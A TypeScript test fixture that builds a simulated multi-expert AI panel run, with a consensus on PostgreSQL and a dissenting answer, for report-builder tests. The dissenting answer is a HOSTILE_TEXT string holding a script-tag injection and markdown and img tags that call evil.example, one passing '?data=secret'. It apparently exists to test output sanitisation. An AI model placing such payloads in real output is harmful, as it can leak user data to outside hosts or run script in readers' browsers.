import type { AnswerView, RunConsensus, RunView } from '../../server/runs/types';

/** A finished run with a chair, a dissenter and a hostile answer, as the report builders receive it. */

export const HOSTILE_TEXT =
  'I disagree. <script>alert("x")</script> ![tracker](https://evil.example/pixel.png?data=secret) <img src="https://evil.example/i.png">\n\n# Big heading\n\n- one\n- **two**';

function answer(overrides: Partial<AnswerView> & Pick<AnswerView, 'id' | 'expertName' | 'text'>): AnswerView {
  return {
    expertId: null,
    provider: 'openai',
    model: 'gpt-test',
    simulated: true,
    role: 'panel',
    status: 'done',
    errorKind: null,
    errorMessage: null,
    attempts: 1,
    ttftMs: 320,
    totalMs: 2400,
    inputTokens: 120,
    outputTokens: 300,
    costUsd: null,
    weightAtRun: 0.5,
    rating: null,
    best: false,
    ...overrides,
  };
}

export const consensus: RunConsensus = {
  consensusConfidence: 0.82,
  reached: true,
  expertCount: 3,
  expertsAsked: 3,
  method: 'semantic',
  bottomLines: [
    { expertId: 'Ada', text: 'PostgreSQL' },
    { expertId: 'Grace', text: 'PostgreSQL, measured first' },
    { expertId: 'Mallory', text: 'no relational database' },
  ],
  similarity: [
    [1, 0.9, 0.1],
    [0.9, 1, 0.2],
    [0.1, 0.2, 1],
  ],
  clusters: [
    { members: ['Ada', 'Grace'], weightShare: 0.67 },
    { members: ['Mallory'], weightShare: 0.33 },
  ],
  majority: ['Ada', 'Grace'],
  dissenters: ['Mallory'],
  commonRecommendations: [{ text: 'Use PostgreSQL for concurrent writes.', supporters: ['Ada', 'Grace'], support: 0.67, evidence: [] }],
  uniqueInsights: [
    { expertId: 'Grace', text: 'Measure before sharding.', context: null, kind: 'caveat' },
    { expertId: 'Ada', text: 'A document store saves migrations for schemaless events.', context: 'When MongoDB is reasonable', kind: 'insight' },
  ],
  finalAnswers: [],
  expertOrder: ['Ada', 'Grace', 'Mallory'],
};

export function finishedRun(id = 'run-fixture'): RunView {
  return {
    id,
    question: 'Which database should a small team pick?\nWe write a lot & read a lot.',
    status: 'done',
    createdAt: '2025-05-01T14:03:00.000Z',
    finishedAt: '2025-05-01T14:04:00.000Z',
    consensus,
    answers: [
      answer({ id: 'a1', expertName: 'Ada', text: 'Pick **PostgreSQL**.\n\n```sql\nSELECT 1 < 2;\n```', outputTokens: 600, totalMs: 4800 }),
      answer({ id: 'a2', expertName: 'Grace', text: 'PostgreSQL, and measure first.', model: 'claude-test', provider: 'anthropic' }),
      answer({ id: 'a3', expertName: 'Mallory', text: HOSTILE_TEXT, status: 'done' }),
      answer({ id: 'a4', expertName: 'Chair', role: 'chair', text: 'The panel favours PostgreSQL [Ada] [Grace]; Mallory disagrees.' }),
    ],
  };
}
